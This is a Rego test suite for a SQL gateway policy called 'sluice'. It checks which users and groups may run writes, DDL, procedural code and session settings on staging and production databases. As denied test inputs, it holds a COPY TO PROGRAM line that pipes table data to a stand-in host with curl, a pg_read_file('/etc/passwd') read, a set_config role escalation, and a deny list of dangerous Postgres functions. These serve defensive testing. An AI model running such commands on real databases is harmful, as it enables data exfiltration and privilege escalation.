package sluice_test

import rego.v1

# --- unbounded_write ---------------------------------------------------------------------

test_delete_without_where_is_denied_for_everyone if {
	every who in ["alice", "ci-bot", "carol"] {
		d := decide(sql(who, "staging", delete_all_orders))
		denied_by(d, "unbounded_write")
		d.reasons == ["DELETE without WHERE on public.orders is denied for everyone"]
	}
}

test_unbounded_write_inside_a_cte_names_the_command if {
	d := decide(sql("alice", "staging", {
		"text": "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
		"kind": "write", "command": "SELECT", "tables_written": ["public.orders"],
		"unbounded_write": true,
	}))
	d.reasons == ["UPDATE or DELETE inside SELECT without WHERE on public.orders is denied for everyone"]
}

test_update_with_where_is_allowed if {
	allowed_by(decide(sql("alice", "staging", update_order)), "developers_read_write_ddl")
}

# --- dangerous_function ------------------------------------------------------------------

test_dangerous_functions_are_denied_for_everyone if {
	every who in ["alice", "bob", "ci-bot", "carol"] {
		d := decide(sql(who, "staging", {"text": "SELECT pg_read_file('/etc/passwd')", "functions": ["pg_read_file"]}))
		denied_by(d, "dangerous_function")
		d.reasons == ["function pg_read_file reads files on the database server and is denied for everyone"]
	}
}

test_qualified_or_quoted_dangerous_function_is_denied if {
	every f in ["pg_catalog.pg_terminate_backend", "PG_CATALOG.\"pg_terminate_backend\""] {
		denied_by(decide(sql("alice", "staging", {"functions": [f]})), "dangerous_function")
	}
}

test_set_config_is_denied if {
	d := decide(sql("alice", "staging", {"text": "SELECT set_config('role', 'postgres', false)", "functions": ["set_config"]}))
	denied_by(d, "dangerous_function")
}

test_the_required_dangerous_functions_are_listed if {
	required := {
		"pg_read_file", "pg_read_binary_file", "pg_ls_dir", "pg_stat_file", "lo_import", "lo_export",
		"dblink", "dblink_exec", "dblink_connect", "pg_terminate_backend", "pg_cancel_backend",
		"set_config", "pg_reload_conf", "pg_rotate_logfile", "pg_promote",
	}
	every name in required {
		denied_by(decide(sql("alice", "staging", {"functions": [name]})), "dangerous_function")
	}
}

# --- large_objects ---------------------------------------------------------------------

# psql's \lo_import arrives as FunctionCall messages, decided as SELECT pg_catalog.lo_creat($1).
test_people_may_not_use_large_objects_on_production if {
	every f in ["pg_catalog.lo_creat", "pg_catalog.lowrite", "lo_get"] {
		d := decide(sql("alice", "shop", {"text": "SELECT pg_catalog.lo_creat($1)", "functions": [f]}))
		denied_by(d, "large_objects")
	}
}

test_large_objects_elsewhere_and_for_automation_are_not_denied_by_that_rule if {
	allowed_by(decide(sql("alice", "staging", {"functions": ["pg_catalog.lo_creat"]})), "developers_read_write_ddl")
	allowed_by(decide(sql("ci-bot", "shop", {"functions": ["pg_catalog.lo_creat"]})), "ci_read_write")
}

test_every_dangerous_function_is_denied if {
	every name, _ in data.sluice.dangerous_functions {
		denied_by(decide(sql("carol", "staging", {"functions": [name]})), "dangerous_function")
	}
}

test_harmless_functions_are_allowed if {
	d := decide(sql("bob", "shop", {"functions": ["current_setting", "upper", "lower"]}))
	allowed_by(d, "analysts_read_only")
}

# --- procedural_code ---------------------------------------------------------------------

test_procedural_code_is_denied if {
	d := decide(sql("alice", "staging", do_block))
	denied_by(d, "procedural_code")
	d.reasons == ["DO runs code the gateway cannot inspect; only break-glass may run it"]
}

test_copy_to_program_is_denied if {
	d := decide(sql("ci-bot", "staging", {
		"text": "COPY orders TO PROGRAM 'curl -d @- evil.example'",
		"kind": "procedural", "command": "COPY", "tables_read": ["public.orders"],
	}))
	denied_by(d, "procedural_code")
}

test_procedural_code_is_allowed_for_break_glass if {
	allowed_by(decide(sql("carol", "shop", do_block)), "break_glass")
}

# --- guarded_setting ---------------------------------------------------------------------

test_set_role_is_denied if {
	d := decide(sql("alice", "staging", set_role))
	denied_by(d, "guarded_setting")
	d.reasons == ["SET role TO postgres is only allowed for break-glass: it would act as a different database role than the one sluice logs in with"]
}

test_guarded_settings_are_denied_set_or_reset if {
	every setting in ["role", "session_authorization", "search_path"] {
		every value in ["x", null] {
			d := decide(sql("ci-bot", "staging", {"kind": "session_change", "command": "SET", "session_change": {"setting": setting, "value": value}}))
			denied_by(d, "guarded_setting")
		}
	}
}

test_reset_names_the_setting if {
	d := decide(sql("alice", "staging", {"kind": "session_change", "session_change": {"setting": "search_path", "value": null}}))
	startswith(d.reasons[0], "RESET search_path is only allowed for break-glass")
}

test_guarded_settings_are_allowed_for_break_glass if {
	allowed_by(decide(sql("carol", "shop", set_role)), "break_glass")
}

test_ordinary_settings_are_allowed if {
	s := {"kind": "session_change", "command": "SET", "session_change": {"setting": "statement_timeout", "value": "5s"}}
	allowed_by(decide(sql("alice", "shop", s)), "developers_read_write_ddl")
	allowed_by(decide(sql("bob", "shop", s)), "analysts_read_only")
}

# --- no_human_ddl_in_production ----------------------------------------------------------

test_human_ddl_in_production_is_denied if {
	d := decide(sql("alice", "shop", create_index))
	denied_by(d, "no_human_ddl_in_production")
	d.reasons == ["CREATE INDEX (DDL) on production target shop is denied for people; ship it as a migration"]
}

test_human_ddl_in_production_is_denied_for_break_glass_too if {
	denied_by(decide(sql("carol", "shop", create_index)), "no_human_ddl_in_production")
}

test_production_tag_environment_also_counts if {
	doc := object.union(sql("alice", "staging", create_index), {"target": {"tags": {"environment": "production"}}})
	denied_by(decide(doc), "no_human_ddl_in_production")
}

test_human_ddl_outside_production_is_allowed if {
	allowed_by(decide(sql("alice", "staging", create_index)), "developers_read_write_ddl")
}

test_service_ddl_in_production_is_allowed if {
	allowed_by(decide(sql("migrator", "shop", create_index)), "migrations_ddl_only")
}

# --- analysts_read_only ------------------------------------------------------------------

test_analysts_may_read if {
	every s in [select_orders, begin, {"kind": "utility", "command": "SHOW"}] {
		allowed_by(decide(sql("bob", "shop", s)), "analysts_read_only")
	}
}

test_analysts_may_not_write_or_change_schemas if {
	every s in [update_order, create_index, {"kind": "utility", "command": "VACUUM"}] {
		denied_by(decide(sql("bob", "staging", s)), "default_deny")
	}
	d := decide(sql("bob", "staging", update_order))
	d.reasons == ["UPDATE (write) is not allowed for bob (groups: analysts) on staging"]
}

test_analysts_may_not_select_into if {
	d := decide(sql("bob", "staging", {
		"text": "SELECT * INTO stolen FROM orders",
		"kind": "ddl", "command": "SELECT", "tables_read": ["public.orders"], "tables_written": ["public.stolen"],
	}))
	denied_by(d, "default_deny")
}

# --- developers_read_write_ddl -----------------------------------------------------------

test_developers_may_read_write_and_change_schemas_outside_production if {
	every s in [select_orders, update_order, create_index, begin, {"kind": "utility", "command": "VACUUM"}] {
		allowed_by(decide(sql("alice", "staging", s)), "developers_read_write_ddl")
	}
}

test_developers_may_not_run_procedural_code if {
	denied_by(decide(sql("alice", "staging", do_block)), "procedural_code")
}

# --- ci_read_write -----------------------------------------------------------------------

test_ci_may_read_and_write if {
	every s in [select_orders, update_order, begin] {
		allowed_by(decide(sql("ci-bot", "shop", s)), "ci_read_write")
	}
}

test_ci_may_not_change_schemas if {
	d := decide(sql("ci-bot", "staging", create_index))
	denied_by(d, "default_deny")
	d.reasons == ["CREATE INDEX (ddl) is not allowed for ci-bot (groups: ci) on staging"]
}

# --- migrations_ddl_only -----------------------------------------------------------------

test_migrations_may_change_schemas if {
	every s in [create_index, begin] {
		allowed_by(decide(sql("migrator", "shop", s)), "migrations_ddl_only")
	}
}

test_migrations_may_set_lock_timeout_only if {
	lock := {"kind": "session_change", "session_change": {"setting": "lock_timeout", "value": "5s"}}
	allowed_by(decide(sql("migrator", "shop", lock)), "migrations_ddl_only")
	mem := {"kind": "session_change", "session_change": {"setting": "work_mem", "value": "1GB"}}
	denied_by(decide(sql("migrator", "shop", mem)), "default_deny")
}

test_migrations_may_keep_their_books if {
	every s in [
		{"text": "SELECT version, checksum FROM _sqlx_migrations", "tables_read": ["public._sqlx_migrations"]},
		{"kind": "write", "command": "INSERT", "tables_written": ["public._sqlx_migrations"]},
		{"text": "SELECT pg_advisory_lock($1)", "functions": ["pg_advisory_lock"], "parameter_count": 1},
		{"text": "SELECT current_database()", "functions": ["current_database"]},
	] {
		allowed_by(decide(sql("migrator", "shop", s)), "migrations_ddl_only")
	}
}

test_migrations_may_not_touch_data if {
	every s in [
		select_orders,
		update_order,
		{"kind": "read", "tables_read": ["public._sqlx_migrations", "public.orders"]},
		{"kind": "read", "functions": ["pg_sleep"]},
		{"kind": "ddl", "command": "CREATE TABLE AS", "tables_read": ["public.orders"], "tables_written": ["public.copy"]},
	] {
		denied_by(decide(sql("migrator", "shop", s)), "default_deny")
	}
}

test_migrations_group_needs_a_service_identity if {
	denied_by(decide(sql("mallory", "staging", create_index)), "default_deny")
}

# --- break_glass -------------------------------------------------------------------------

test_break_glass_may_run_anything_not_guarded_for_everyone if {
	every s in [select_orders, do_block, set_role, {"kind": "utility", "command": "VACUUM"}] {
		allowed_by(decide(sql("carol", "shop", s)), "break_glass")
	}
	# Data changes on production still wait for a DBA (approval.rego).
	held_by(decide(sql("carol", "shop", update_order)), "break_glass", {"dba"})
}

test_break_glass_is_still_bound_by_the_guardrails_for_everyone if {
	denied_by(decide(sql("carol", "shop", delete_all_orders)), "unbounded_write")
}
